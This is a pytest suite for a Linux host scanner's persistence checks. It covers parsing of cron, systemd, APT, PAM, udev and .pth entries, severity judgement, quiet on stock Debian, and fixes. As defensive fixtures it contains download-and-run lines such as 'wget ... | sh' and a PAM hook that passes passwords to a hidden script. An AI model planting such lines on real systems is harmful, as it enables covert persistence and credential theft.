"""The persistence family's parsers on their edge cases, its judgement, a stock Debian tree that must stay quiet,
a fix proven by the tool that reads it, and parsers that never crash on garbage."""

from __future__ import annotations

import os
import subprocess
from dataclasses import replace
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from hostguard.checks.persistence import PersistenceConfig, judge
from hostguard.engine.registry import default_registry
from hostguard.findings import Severity
from hostguard.host.accounts import collect_accounts
from hostguard.host.base import RootHost
from hostguard.host.persistence import (
    Entry,
    PamJump,
    collect_entries,
    command_words,
    parse_apt_conf,
    parse_crontab,
    parse_pam,
    parse_preload,
    parse_pth,
    parse_script_lines,
    parse_udev,
    parse_unit,
    rules,
    shell_continuation,
)
from hostguard.respond.apply import apply
from tests.conftest import HITS, build_tree, need_tool, run_one

CHECKS = [s.id for s in default_registry().checks if s.family == "persistence"]


def _write(root: Path, rel: str, text: str, mode: int = 0o644) -> None:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(mode)


def _own(root: Path, package: str, *paths: str) -> None:
    """A dpkg file list, as /var/lib/dpkg/info/<package>.list holds it (dpkg's pre-usrmerge spellings)."""
    _write(root, f"var/lib/dpkg/info/{package}.list", "/.\n" + "".join(f"{p}\n" for p in paths))


def _entries(root: Path) -> tuple[Entry, ...]:
    host = RootHost(str(root))
    return collect_entries(host, collect_accounts(host, None), None, None, PersistenceConfig())


# -- parsers --------------------------------------------------------------------------------------------

def test_cron_lines_skip_environment_and_comments_and_read_reboot_and_percent() -> None:
    text = ("# m h dom mon dow user command\nSHELL=/bin/sh\nPATH = /usr/bin:/bin\nMAILTO=\"\"\n"
            "@reboot root /usr/local/bin/warm-cache\n"
            "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
            "0 1 * * * www-data /usr/bin/php /srv/app/cron.php%first line of stdin\n"
            "* * * *\n")
    entries = parse_crontab(text, "/etc/crontab", system=True)
    assert [(e.line, e.user, e.command) for e in entries] == [
        (5, "root", "/usr/local/bin/warm-cache"),
        (6, "root", "cd / && run-parts --report /etc/cron.hourly"),
        (7, "www-data", "/usr/bin/php /srv/app/cron.php")]
    user = parse_crontab("@daily /home/alice/bin/sync\n", "/var/spool/cron/crontabs/alice", system=False, user="alice")
    assert [(e.user, e.command) for e in user] == [("alice", "/home/alice/bin/sync")]


def test_command_words_follow_wrappers_interpreters_and_nested_shells() -> None:
    assert command_words("test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }") == ["run-parts"]
    assert command_words("LANG=C timeout 30 nice -n 5 flock -n /run/lock/j /usr/local/bin/job 2>&1") == [
        "/usr/local/bin/job"]
    assert command_words("/bin/sh -c '/tmp/.x/run >/dev/null 2>&1'") == ["/bin/sh", "/tmp/.x/run"]
    assert command_words("python3 -u /opt/tools/report.py >> /var/log/report.log") == ["python3", "/opt/tools/report.py"]
    assert command_words("echo done > /tmp/marker") == []
    assert command_words("h=$(hostname -s); `id -u` && logger -t job done") == ["hostname", "id", "logger"]


def test_apt_hooks_in_blocks_nested_scopes_and_comments() -> None:
    text = ('// DPkg::Post-Invoke {"/tmp/commented";};\n'
            "/* APT::Update::Pre-Invoke {\"/tmp/block-comment\";}; */\n"
            "DPkg\n{\n  Post-Invoke\n  {\n    \"/usr/local/sbin/after-dpkg\";\n    \"/usr/bin/true\";\n  };\n};\n"
            'APT::Update::Pre-Invoke "/usr/local/bin/pre-update";\n'
            'APT::Periodic::Update-Package-Lists "1";\n'
            'apt::update::post-invoke-success {"echo \\"ok\\"";};\n')
    entries = parse_apt_conf(text, "/etc/apt/apt.conf.d/99x", rules().apt_hooks)
    assert [(e.line, e.command) for e in entries] == [
        (7, "/usr/local/sbin/after-dpkg"), (8, "/usr/bin/true"), (11, "/usr/local/bin/pre-update"),
        (13, 'echo "ok"')]


def test_pam_exec_options_and_bracket_controls() -> None:
    text = ("# auth optional pam_exec.so /tmp/x\n"
            "auth [success=ok default=ignore] pam_exec.so quiet expose_authtok log=/var/log/p.log /usr/local/sbin/pw a b\n"
            "-session optional /lib/security/pam_exec.so seteuid /usr/sbin/hook\n"
            "auth required pam_unix.so nullok\n")
    assert [(e.line, e.command) for e in parse_pam(text, "/etc/pam.d/x")] == [
        (2, "/usr/local/sbin/pw a b"), (3, "/usr/sbin/hook")]


def test_units_drop_prefixes_follow_continuations_and_find_ld_preload() -> None:
    text = ("[Service]\n# ExecStart=/tmp/commented\nExecStartPre=-/usr/bin/mkdir -p /run/x\n"
            "ExecStart=@/usr/local/bin/agent \\\n  --flag\nEnvironment=\"LANG=C\" \"LD_PRELOAD=/opt/l.so\"\n"
            "Environment=TZ=UTC\n")
    entries = parse_unit(text, "/etc/systemd/system/a.service", "a.service")
    assert [(e.line, e.command) for e in entries] == [
        (3, "/usr/bin/mkdir -p /run/x"), (4, "/usr/local/bin/agent    --flag"),
        (6, '"LANG=C" "LD_PRELOAD=/opt/l.so"')]


def test_small_formats() -> None:
    assert [(e.line, e.command) for e in parse_preload("# c\n/lib/a.so /lib/b.so:/lib/c.so\n\n", "/p")] == [
        (2, "/lib/a.so"), (2, "/lib/b.so"), (2, "/lib/c.so")]
    assert [e.line for e in parse_pth("/opt/lib\nimport a\n import b\n#import c\nimport\tc\n", "/x.pth")] == [2, 5]
    udev = parse_udev('A=="x", RUN+="/usr/local/bin/on-x %k"\nB=="y", RUN{builtin}+="kmod load y"\n'
                      '# RUN+="/tmp/z"\nC=="z", RUN{program}="net-hook"\n', "/r.rules")
    assert [(e.line, e.command) for e in udev] == [(1, "/usr/local/bin/on-x %k"), (4, "net-hook")]


def test_a_shell_command_over_several_lines_is_one_entry_judged_whole() -> None:
    text = ("# c\n"
            'test -n "$PS1" &&\n  curl -s http://x.test/a | sh\n'          # 2-3: `&&` goes on
            "curl -s http://x.test/b |\n\n# why\nsh\n"                    # 4-7: `|` goes on past a comment
            "curl -s \\\n  http://x.test/c | bash\n"                       # 8-9: a backslash joins
            "x && # note\n y\n"                                            # 10-11: the comment is not the command
            "echo 'a |'\n"                                                  # 12: a quoted `|` goes nowhere
            "echo done # | \\\n"                                            # 13: so does one in a comment
            "ls >|\n"                                                       # 14: `>|` is a redirection
            "echo a\\ \n")                                                 # 15: an escaped space, no backslash-newline
    entries = parse_script_lines(text, "/etc/profile.d/x.sh", "shell_startup")
    assert [(e.line, e.end_line, e.command) for e in entries] == [
        (2, 3, 'test -n "$PS1" && curl -s http://x.test/a | sh'),
        (4, 7, "curl -s http://x.test/b | sh"),
        (8, 9, "curl -s   http://x.test/c | bash"),
        (10, 11, "x && y"),
        (12, 0, "echo 'a |'"), (13, 0, "echo done # | \\"), (14, 0, "ls >|"), (15, 0, "echo a\\")]
    assert entries[1].physical_lines() == [(4, "curl -s http://x.test/b |"), (5, ""), (6, "# why"), (7, "sh")]
    # read line by line, neither half of `curl ... |` + `sh` downloads and runs; joined, it does
    assert judge(replace(entries[1], database="dpkg"))[0] == Severity.HIGH
    assert [judge(Entry("shell_startup", "/x", n, raw, raw))[0] for n, raw in entries[1].physical_lines()] == [None] * 4
    assert [shell_continuation(x) for x in ("a \\", "a &&", "a ||", "a |&", "a |", "a &", "a \"b \\", "a '|'",
                                            "a # |", "a \\\\", "b=$#|")] == [
        "backslash", "operator", "operator", "operator", "operator", None, None, None, None, None, "operator"]


def test_cron_lines_are_never_joined() -> None:
    """Debian's cron reads the command to the end of its line (crontab(5): "up to a newline or %"):
    a trailing backslash or pipe does not continue it (tests/checks/test_persistence_fixes.py shows crontab
    refusing the next line as an entry of its own)."""
    text = "* * * * * curl -s http://x.test/a |\n  sh\n* * * * * /usr/bin/a \\\n* * * * * /usr/bin/b\n"
    entries = parse_crontab(text, "/var/spool/cron/crontabs/alice", system=False, user="alice")
    assert [(e.line, e.end_line, e.command) for e in entries] == [
        (1, 0, "curl -s http://x.test/a |"), (3, 0, "/usr/bin/a \\"), (4, 0, "/usr/bin/b")]


def _pam(root: Path, service: str, text: str) -> None:
    _write(root, f"etc/pam.d/{service}", text)


def _pam_entries(root: Path) -> dict[str, Entry]:
    return {e.path: e for e in _entries(root) if e.kind == "pam_exec"}


def test_pam_exec_entries_carry_the_jumps_that_skip_them(tmp_path: Path) -> None:
    root = build_tree(tmp_path / "host")
    _pam(root, "sudo", "#%PAM-1.0\n"
         "auth [success=3 new_authtok_reqd=1 default=ignore] pam_unix.so\n"  # 3 skips the line, 1 lands on it
         "auth optional pam_env.so\n"
         "auth optional pam_exec.so quiet expose_authtok /usr/local/sbin/.pwlog\n"
         "auth requisite pam_deny.so\n"
         "auth required pam_permit.so\n"
         "session [success=1 default=ignore] pam_exec.so /usr/local/sbin/.s\n")  # another type: not counted
    _pam(root, "login", "@include sudo\n")  # a second service reads the same lines
    _pam(root, "cron", "auth [success=1 default=ignore] pam_unix.so\nauth optional pam_exec.so /usr/local/sbin/.c\n"
         "auth required pam_permit.so\n")
    _pam(root, "su", "auth [success=1 default=ignore] pam_unix.so\nauth required pam_permit.so\n"
         "auth optional pam_exec.so /usr/local/sbin/.u\n")  # the jump lands on pam_permit, before the line
    found = {(e.path, e.line): e for e in _entries(root) if e.kind == "pam_exec"}
    sudo = found[("/etc/pam.d/sudo", 4)]
    assert sudo.pam_unknown is None
    assert sudo.pam_jumps == (PamJump("/etc/pam.d/sudo", 2, "auth [success=3 new_authtok_reqd=1 default=ignore] "
                                      "pam_unix.so", (("success", 3),), ("login", "sudo")),)
    assert found[("/etc/pam.d/sudo", 7)].pam_jumps == ()
    assert [(j.line, j.spans) for j in found[("/etc/pam.d/cron", 2)].pam_jumps] == [(1, (("success", 1),))]
    assert found[("/etc/pam.d/su", 3)].pam_jumps == ()


def test_pam_jumps_that_cannot_be_counted_are_said(tmp_path: Path) -> None:
    root = build_tree(tmp_path / "host")
    _pam(root, "sudo", "auth [success=1 default=ignore] pam_unix.so\nauth substack sudo-extra\n"
         "auth optional pam_exec.so /usr/local/sbin/.pwlog\nauth required pam_permit.so\n")
    _pam(root, "sudo-extra", "auth required pam_env.so\nauth required pam_faildelay.so\n")
    assert "substack" in (_pam_entries(root)["/etc/pam.d/sudo"].pam_unknown or "")
    # without a jump before the line, a substack changes nothing a delete could upset
    _pam(root, "sudo", "auth substack sudo-extra\nauth optional pam_exec.so /usr/local/sbin/.pwlog\n")
    assert _pam_entries(root)["/etc/pam.d/sudo"].pam_unknown is None
    # a service file that is not text may include the line: its jumps are not known
    (root / "etc/pam.d/junk").write_bytes(b"auth \x00\x01 include sudo\n")
    assert "/etc/pam.d/junk cannot be read" in (_pam_entries(root)["/etc/pam.d/sudo"].pam_unknown or "")


# -- judgement ------------------------------------------------------------------------------------------

def test_a_users_own_home_is_hers_but_root_running_it_is_high(tmp_path: Path) -> None:
    root = build_tree(tmp_path / "host")
    _write(root, "home/alice/bin/sync", "#!/bin/sh\n", 0o755)
    _write(root, "var/spool/cron/crontabs/alice", "@hourly /home/alice/bin/sync\n")
    _write(root, "etc/cron.d/sync", "@hourly root /home/alice/bin/sync\n")
    _own(root, "coreutils", "/bin/true")
    by_path = {e.path: judge(e) for e in _entries(root) if e.kind == "cron"}
    assert by_path["/etc/cron.d/sync"] == (Severity.HIGH, ["runs /home/alice/bin/sync, in the home directory of alice"])
    severity, why = by_path["/var/spool/cron/crontabs/alice"]
    assert (severity, why) == (Severity.LOW, ["/home/alice/bin/sync belongs to no installed package"])


def test_without_a_package_database_ownership_is_unknown_and_only_patterns_count(tmp_path: Path) -> None:
    root = build_tree(tmp_path / "host")
    _write(root, "usr/local/bin/report", "#!/bin/sh\n", 0o755)
    _write(root, "etc/cron.d/report", "0 6 * * * root /usr/local/bin/report\n"
                                      "0 7 * * * root wget -qO- http://198.51.100.9/r | sh\n")
    found, _ = run_one("persistence.cron", RootHost(str(root)))
    assert [(f.target["runs"], f.severity) for f in found] == [("wget -qO- http://198.51.100.9/r | sh", Severity.HIGH)]
    _own(root, "coreutils", "/bin/true")  # now dpkg is the database, and report is not in it
    found, _ = run_one("persistence.cron", RootHost(str(root)))
    assert sorted((f.target["runs"], f.severity) for f in found) == [
        ("/usr/local/bin/report", Severity.LOW), ("wget -qO- http://198.51.100.9/r | sh", Severity.HIGH)]


# -- stock Debian stays quiet ---------------------------------------------------------------------------

def _stock_debian(root: Path) -> None:
    """Persistence places as a Debian 12 server has them after install, in Debian's shape (written here)."""
    _write(root, "etc/crontab", "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n\n"
           "# Example of job definition:\n"
           "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n"
           "25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n"
           "47 6\t* * 7\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }\n")
    _write(root, "etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 "
           "/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n10 3 * * * root test -e /run/systemd/system || "
           "SERVICE_MODE=1 /sbin/e2scrub_all -A -r\n")
    _write(root, "etc/cron.d/.placeholder", "# DO NOT EDIT OR REMOVE\n")
    _write(root, "etc/cron.daily/dpkg", "#!/bin/sh\n# backups of the dpkg databases\nif [ -d /run/systemd/system ]; "
           "then\n    exit 0\nfi\n/usr/libexec/dpkg/dpkg-db-backup\n", 0o755)
    _write(root, "etc/cron.daily/man-db", "#!/bin/sh\nset -e\n[ -d /run/systemd/system ] && exit 0\n"
           "start-stop-daemon --start --pidfile /dev/null --startas /usr/bin/mandb --oknodo --chuid man -- --quiet\n",
           0o755)
    _write(root, "usr/lib/systemd/system/ssh.service", "[Service]\nEnvironmentFile=-/etc/default/ssh\n"
           "ExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\nExecReload=/bin/kill -HUP $MAINPID\n")
    os.symlink("/usr/lib/systemd/system/ssh.service", root / "etc/systemd/system/sshd.service")
    _write(root, "etc/profile", "if [ \"$(id -u)\" -eq 0 ]; then\n  PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:"
           "/usr/bin:/sbin:/bin\"\nfi\nexport PATH\nif [ -d /etc/profile.d ]; then\n  for i in /etc/profile.d/*.sh; do\n"
           "    if [ -r $i ]; then\n      . $i\n    fi\n  done\n  unset i\nfi\n")
    _write(root, "etc/bash.bashrc", "[ -z \"$PS1\" ] && return\nshopt -s checkwinsize\n"
           "if [ -x /usr/lib/command-not-found ]; then\n  :\nfi\n")
    _write(root, "etc/profile.d/bash_completion.sh", "if [ -n \"${BASH_VERSION-}\" ]; then\n"
           "  . /usr/share/bash-completion/bash_completion\nfi\n")
    _write(root, "root/.bashrc", "# ~/.bashrc: executed by bash(1) for non-login shells.\nexport LS_OPTIONS='--color=auto'\n"
           "eval \"$(dircolors)\"\nalias ls='ls $LS_OPTIONS'\n")
    _write(root, "root/.profile", "if [ \"$BASH\" ]; then\n  if [ -f ~/.bashrc ]; then\n    . ~/.bashrc\n  fi\nfi\n"
           "mesg n 2> /dev/null || true\n")
    _write(root, "etc/update-motd.d/10-uname", "#!/bin/sh\nuname -snrvm\n", 0o755)
    _write(root, "etc/init.d/ssh", "#!/bin/sh\ntest -x /usr/sbin/sshd || exit 0\n. /lib/lsb/init-functions\n", 0o755)
    _write(root, "etc/init.d/cron", "#!/bin/sh\nDAEMON=/usr/sbin/cron\ntest -x $DAEMON || exit 0\n", 0o755)
    _write(root, "etc/apt/apt.conf.d/70debconf", "// Pre-configure all packages with debconf before they are installed.\n"
           "DPkg::Pre-Install-Pkgs {\"/usr/sbin/dpkg-preconfigure --apt || true\";};\n")
    _write(root, "etc/apt/apt.conf.d/docker-clean", "DPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb "
           "/var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true\"; };\n")
    _write(root, "usr/lib/python3/dist-packages/distutils-precedence.pth",
           "import os; enabled = os.environ.get('X_USE', 'local') == 'local'; enabled and __import__('_x_hack')\n")
    programs = {"/usr/bin/run-parts": "debianutils", "/usr/sbin/e2scrub_all": "e2fsprogs",
                "/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron": "e2fsprogs",
                "/usr/libexec/dpkg/dpkg-db-backup": "dpkg", "/usr/sbin/start-stop-daemon": "dpkg",
                "/usr/sbin/sshd": "openssh-server", "/usr/bin/kill": "procps", "/usr/bin/uname": "coreutils",
                "/usr/bin/rm": "coreutils", "/usr/bin/dircolors": "coreutils", "/usr/bin/mesg": "bsdutils",
                "/usr/sbin/dpkg-preconfigure": "debconf", "/usr/bin/id": "coreutils"}
    for path, _ in programs.items():
        _write(root, path.lstrip("/"), "", 0o755)
    owned = {**programs, "/etc/cron.d/e2scrub_all": "e2fsprogs", "/etc/cron.daily/dpkg": "dpkg",
             "/etc/cron.daily/man-db": "man-db", "/etc/update-motd.d/10-uname": "base-files",
             "/etc/init.d/ssh": "openssh-server", "/etc/init.d/cron": "cron", "/etc/apt/apt.conf.d/70debconf": "debconf",
             "/etc/profile": "base-files", "/etc/bash.bashrc": "bash",
             "/etc/profile.d/bash_completion.sh": "bash-completion",
             "/usr/lib/python3/dist-packages/distutils-precedence.pth": "python3-setuptools", "/etc/crontab": "cron"}
    by_package: dict[str, list[str]] = {}
    for path, package in owned.items():
        legacy = path.removeprefix("/usr") if path.startswith(("/usr/bin/", "/usr/sbin/")) else path
        by_package.setdefault(package, []).append(legacy)
    for package, paths in by_package.items():
        _own(root, package, *paths)


def test_stock_debian_tree_gives_no_persistence_finding(tmp_path: Path) -> None:
    root = build_tree(tmp_path / "host")
    _stock_debian(root)
    seen = {(e.kind, e.path) for e in _entries(root)}
    # the quiet below is not "nothing read": every stock place was parsed
    assert {("cron", "/etc/crontab"), ("cron", "/etc/cron.d/e2scrub_all"), ("scheduled_script", "/etc/cron.daily/dpkg"),
            ("systemd", "/etc/systemd/system/sshd.service"), ("shell_startup", "/root/.bashrc"),
            ("motd", "/etc/update-motd.d/10-uname"), ("init_script", "/etc/init.d/cron"),
            ("apt_hook", "/etc/apt/apt.conf.d/docker-clean"),
            ("python_pth", "/usr/lib/python3/dist-packages/distutils-precedence.pth")} <= seen
    assert not any(path.endswith(".placeholder") for _, path in seen)
    for check_id in CHECKS:
        found, skipped = run_one(check_id, RootHost(str(root)))
        assert [f.title for f in found] == [], check_id
        assert skipped == []
    # one unpackaged init script on the same tree is reported: the quiet above is judgement, not blindness
    _write(root, "etc/init.d/netwatch", "#!/bin/sh\n/usr/local/sbin/netwatch\n", 0o755)
    found, _ = run_one("persistence.boot_script", RootHost(str(root)))
    assert [(f.target["path"], f.severity) for f in found] == [("/etc/init.d/netwatch", Severity.MEDIUM)]


# -- fixes ----------------------------------------------------------------------------------------------

def test_apt_hook_fix_leaves_a_config_apt_reads(tmp_path: Path) -> None:
    need_tool("apt-config")
    tree = build_tree(tmp_path / "host", HITS / "persistence.apt_hook")
    [finding] = run_one("persistence.apt_hook", RootHost(str(tree)))[0]
    conf = tree / "etc/apt/apt.conf.d/99update-notify"
    apply(finding.remediation.steps, str(tree))
    env = {**os.environ, "APT_CONFIG": "/dev/null", "LC_ALL": "C"}
    out = subprocess.run(["apt-config", "-c", str(conf), "dump"], capture_output=True, text=True, env=env,
                         timeout=30, check=False)
    assert out.returncode == 0, out.stderr
    assert "/var/tmp/.apt/notify" not in out.stdout
    # and apt reads the hit as written, so the parser and apt agree on what the hook was
    conf.write_text((HITS / "persistence.apt_hook/etc/apt/apt.conf.d/99update-notify").read_text())
    out = subprocess.run(["apt-config", "-c", str(conf), "dump"], capture_output=True, text=True, env=env,
                         timeout=30, check=False)
    assert 'APT::Update::Post-Invoke-Success:: "/var/tmp/.apt/notify' in out.stdout


def test_unit_fix_names_the_unit_and_removes_its_file(tmp_path: Path) -> None:
    tree = build_tree(tmp_path / "host", HITS / "persistence.systemd_unit")
    found = {f.target["path"]: f for f in run_one("persistence.systemd_unit", RootHost(str(tree)))[0]}
    unit = found["/etc/systemd/system/dbus-helper.service"].remediation
    assert [s.argv for s in unit.steps if s.kind == "command"] == [  # type: ignore[union-attr]
        ("systemctl", "stop", "dbus-helper.service"), ("systemctl", "disable", "dbus-helper.service"),
        ("rm", "-f", "--", "/etc/systemd/system/dbus-helper.service"), ("systemctl", "daemon-reload")]
    dropin = found["/etc/systemd/system/ssh.service.d/override.conf"].remediation
    assert [s.kind for s in dropin.steps] == ["delete_line", "command", "command"]


# -- garbage in, no traceback ---------------------------------------------------------------------------

TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=300)
SHELLISH = st.text(alphabet="ab /-=$(){}[]`'\"\\|&;<>#%@*\n\t.0123456789", max_size=200)


@settings(max_examples=200, deadline=None)
@given(st.one_of(TEXT, SHELLISH))
def test_parsers_never_raise_on_garbage(text: str) -> None:
    parse_crontab(text, "/etc/crontab", system=True)
    parse_crontab(text, "/var/spool/cron/crontabs/x", system=False)
    parse_unit(text, "/etc/systemd/system/x.service", "x.service")
    parse_apt_conf(text, "/etc/apt/apt.conf.d/x", rules().apt_hooks)
    parse_pam(text, "/etc/pam.d/x")
    parse_pth(text, "/x.pth")
    parse_preload(text, "/etc/ld.so.preload")
    parse_udev(text, "/etc/udev/rules.d/x.rules")
    command_words(text)
    shell_continuation(text)


@settings(max_examples=300, deadline=None)
@given(st.one_of(TEXT, SHELLISH))
def test_shell_entries_are_the_files_own_lines_in_order(text: str) -> None:
    """Whatever the text, every entry is written on lines of the file exactly as they read (what the fix's
    DeleteLine steps check), entries never share a line, and each starts on a command line."""
    lines = text.splitlines()
    last = 0
    for entry in parse_script_lines(text, "/etc/profile", "shell_startup"):
        physical = entry.physical_lines()
        assert physical[0][0] == entry.line > last
        assert all(lines[n - 1] == raw for n, raw in physical)
        assert physical[-1][0] == (entry.end_line or entry.line)
        assert lines[entry.line - 1].strip() and not lines[entry.line - 1].strip().startswith("#")
        last = physical[-1][0]


def test_garbage_files_in_every_place_are_read_without_error(tmp_path: Path) -> None:
    root = build_tree(tmp_path / "host")
    junk = "\x00\xff{{\"unterminated ' `$( ]] %% @reboot\n* * * * *\nExecStart=\\\n"
    for rel in ("etc/crontab", "etc/cron.d/junk", "var/spool/cron/crontabs/alice", "etc/systemd/system/j.service",
                "etc/apt/apt.conf.d/junk", "etc/pam.d/junk", "etc/ld.so.preload", "etc/udev/rules.d/j.rules",
                "usr/lib/python3/dist-packages/j.pth", "root/.bashrc", "etc/rc.local"):
        _write(root, rel, junk)
    (root / "etc/cron.daily").mkdir(parents=True)
    (root / "etc/cron.daily/bin").write_bytes(b"\x7fELF\x00\x01\xfe")
    for check_id in CHECKS:
        _, skipped = run_one(check_id, RootHost(str(root)))
        assert skipped == [], check_id
